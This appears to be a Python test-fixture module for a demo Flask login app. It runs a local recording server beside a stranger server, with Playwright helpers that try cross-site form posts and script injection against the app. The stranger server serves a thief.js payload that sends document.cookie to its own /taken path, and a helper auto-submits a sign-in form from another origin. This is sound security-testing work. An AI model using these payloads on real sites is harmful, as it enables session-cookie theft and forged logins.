"""Servers that note what a browser sends them, and a stage on which a claim is tried."""

from collections.abc import Iterable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Self

from flask import Flask, Request, request
from playwright.sync_api import Browser, Page

from demo_server.demo_users import DEMO_USERS
from demo_server.notebook.live.demo_app import build_app
from demo_server.notebook.live.runners import InThread
from tests.browser.person import expect_signed_in, sign_in

TOKENS = {"mytoken", "access_token"}
"""What the two versions call the cookie that opens the protected page."""


@dataclass(frozen=True)
class Seen:
    """A request as it arrived: with which cookies, and with which status it was answered."""

    method: str
    path: str
    query: str
    cookies: dict[str, str]
    status: int

    def told(self) -> str:
        """Say whether it carried a token."""
        return "token" if TOKENS & self.cookies.keys() else "no token"


class Witness:
    """A running application that notes every request."""

    def __init__(self, app: Flask) -> None:
        """Listen on a free port of 127.0.0.1 from now on."""
        self.seen: list[Seen] = []
        inner = app.wsgi_app

        def noted(environ: dict[str, Any], start_response: Any) -> Iterable[bytes]:
            asked = Request(environ)

            def note(status: str, *more: Any) -> Any:
                found = (asked.query_string.decode(), dict(asked.cookies), int(status[:3]))
                self.seen.append(Seen(asked.method, asked.path, *found))
                return start_response(status, *more)

            return inner(environ, note)

        app.wsgi_app = noted  # type: ignore[method-assign] # Flask's documented way
        self._runner = InThread(app)
        self.url = f"http://127.0.0.1:{self._runner.port}"
        self.other_site = f"http://localhost:{self._runner.port}"

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_error: object) -> None:
        self._runner.stop()

    def last(self, path: str) -> Seen:
        """Return the last request for a path."""
        return [one for one in self.seen if one.path == path][-1]


def neighbour() -> Flask:
    """Make a stranger's server: an empty page, a thief's script, a page that sets a cookie."""
    app = Flask("neighbour")

    @app.get("/")
    @app.get("/taken")
    def empty() -> str:
        return "<!doctype html><title>A stranger</title>"

    @app.get("/set")
    def set_cookie() -> tuple[str, dict[str, str]]:
        return empty(), {"Set-Cookie": request.args["cookie"]}

    @app.get("/thief.js")
    def thief() -> tuple[str, dict[str, str]]:
        return STEAL.format(request.host_url), {"Content-Type": "text/javascript"}

    return app


STEAL = 'fetch("{}taken?" + document.cookie, {{mode: "no-cors"}})'


@dataclass(frozen=True)
class Stage:
    """A visitor's page, the server that is visited, and a stranger's server beside it."""

    page: Page
    app: Flask
    server: Witness
    stranger: Witness

    def sign_in(self) -> None:
        """Let the visitor sign in as Alice."""
        self.page.goto(self.server.url)
        sign_in(self.page)
        expect_signed_in(self.page)

    def post_from(self, address: str, name: str) -> Seen:
        """Let a page at ``address`` post a form, without a click, that signs in as somebody."""
        self.page.goto(address)
        fields = {"id_give": name, "pw_give": DEMO_USERS[name]}
        with self.page.expect_navigation():
            self.page.evaluate(POST, [f"{self.server.url}/sign_in", fields])
        return self.server.last("/sign_in")

    def follow_from(self, address: str, target: str) -> None:
        """Let the visitor follow a link to ``target`` on a page at ``address``."""
        self.page.goto(address)
        self.page.evaluate(APPEND, ["a", {"href": target, "textContent": "a link"}])
        with self.page.expect_navigation():
            self.page.get_by_role("link", name="a link").click()

    def inject(self, **script: str) -> None:
        """Put a script into the page, by its textContent or its src."""
        self.page.evaluate(APPEND, ["script", script])

    def kept_token(self) -> Any:
        """Return the cookie that opens the protected page, as the browser keeps it."""
        (kept,) = [one for one in self.page.context.cookies() if one["name"] in TOKENS]
        return kept


POST = """([action, fields]) => {
  const form = Object.assign(document.createElement("form"), { action, method: "post" });
  for (const [name, value] of Object.entries(fields))
    form.append(Object.assign(document.createElement("input"), { name, value }));
  document.body.append(form);
  form.submit();
}"""
APPEND = """([tag, fields]) =>
  document.body.append(Object.assign(document.createElement(tag), fields))"""


@contextmanager
def stage(on: Browser, version: str, settings: dict[str, Any], folder: Path) -> Iterator[Stage]:
    """Start both servers, and open a window that knows no cookie yet."""
    own = settings | {"DATABASE": str(folder / "users.sqlite")}
    app = build_app(version, own, "/private", seeded=True)
    with Witness(app) as server, Witness(neighbour()) as stranger, on.new_context() as window:
        window.set_default_timeout(10_000)
        page = window.new_page()
        faults: list[str] = []
        page.on("pageerror", lambda error: faults.append(str(error)))
        yield Stage(page, app, server, stranger)
        assert faults == []
